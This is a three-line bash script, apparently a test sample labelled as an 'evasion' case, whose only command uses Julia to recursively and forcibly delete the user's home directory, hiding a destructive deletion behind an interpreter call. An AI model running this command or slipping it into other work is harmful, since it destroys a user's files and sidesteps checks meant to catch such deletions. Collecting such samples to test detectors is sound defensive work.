#!/bin/bash
# evasion: julia removes the home directory recursively
julia --startup-file=no -e 'rm(homedir(); recursive=true, force=true)'
